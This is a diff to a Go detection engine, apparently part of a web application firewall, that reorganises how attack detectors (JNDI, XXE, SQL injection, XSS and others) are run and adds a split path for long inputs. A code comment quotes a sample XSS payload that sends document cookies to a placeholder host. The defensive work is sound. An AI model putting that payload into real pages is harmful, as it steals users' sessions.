@@ -44,6 +44,7 @@ type Engine struct {
 	minScore      int
 	maxBytes      int
 	paranoia      int
+	splitMin      int // texts this long are judged on two cores (judgeSplit)
 	scratch       sync.Pool
 }
 
@@ -65,6 +66,7 @@ func New(opts Options) *Engine {
 		e.maxBytes = 1 << 20
 	}
 	e.paranoia = min(max(opts.Paranoia, 1), MaxParanoia)
+	e.splitMin = splitMinBytes
 	e.scratch.New = func() any { return new(scratch) }
 	return e
 }
@@ -130,10 +132,8 @@ func (in *input) emit(c Class, rule string, score int, off, end int) {
 	if e.disabledClass[c] || e.disabledRule[rule] || score < e.minScore {
 		return
 	}
-	for i := in.base; i < len(in.dst); i++ {
-		if in.dst[i].Class == c && in.dst[i].Rule == rule {
-			return // one signal per rule per value is enough evidence
-		}
+	if in.emitted(c, rule) {
+		return // one signal per rule per value is enough evidence
 	}
 	loc := in.v.Location
 	if in.isKey && !in.v.IsKey {
@@ -332,34 +332,50 @@ func (in *input) judge() {
 	// Detectors run most specific first; a certain finding
 	// (score >= 8) ends the judgement of this value, which bounds the work
 	// per value when a flood of attack values arrives.
-	// (Direct calls, not a slice of method values: those would make the
-	// input escape to the heap on every value.)
-	if in.detectJNDI(); in.certain() {
+	if len(in.text) >= in.e.splitMin && splitWorthwhile() {
+		in.judgeSplit()
 		return
+	}
+	if in.judgeFirst() {
+		return
+	}
+	in.judgeRest()
+}
+
+// judgeFirst runs the first group of detectors, in order, and reports
+// whether the value is certain (a signal scoring 8 or more) when it stops:
+// the structured languages (JNDI, XML, templates, NoSQL, LDAP, headers,
+// SSI, XPath, session fixation), then SQL and HTML/JavaScript.
+// (Direct calls, not a slice of method values: those would make the
+// input escape to the heap on every value.)
+func (in *input) judgeFirst() bool {
+	m := in.mask
+	if in.detectJNDI(); in.certain() {
+		return true
 	}
 	if in.detectXXE(); in.certain() {
-		return
+		return true
 	}
 	if in.detectSSTI(); in.certain() {
-		return
+		return true
 	}
 	if in.detectNoSQL(); in.certain() {
-		return
+		return true
 	}
 	if in.detectLDAP(); in.certain() {
-		return
+		return true
 	}
 	if in.detectHeaderInjection(); in.certain() {
-		return
+		return true
 	}
 	if in.detectSSI(); in.certain() {
-		return
+		return true
 	}
 	if in.detectXPath(); in.certain() {
-		return
+		return true
 	}
 	if in.detectSessionFixation(); in.certain() {
-		return
+		return true
 	}
 	// A value holding an HTML element is read as HTML first: the quotes
 	// and "+" of an attribute such as onerror="fetch('//x/'+document.cookie)"
@@ -367,17 +383,24 @@ func (in *input) judge() {
 	htmlFirst := m.has(bLT) && html.ElementOpen(in.lower())
 	if htmlFirst {
 		if in.detectXSS(); in.certain() {
-			return
+			return true
 		}
 	}
 	if in.detectSQLi(); in.certain() {
-		return
+		return true
 	}
 	if !htmlFirst {
 		if in.detectXSS(); in.certain() {
-			return
+			return true
 		}
 	}
+	return false
+}
+
+// judgeRest runs the second group of detectors, in order, until one makes
+// the value certain: commands, paths, URLs, code, out-of-band domains and
+// probes.
+func (in *input) judgeRest() {
 	if in.detectCmd(); in.certain() {
 		return
 	}
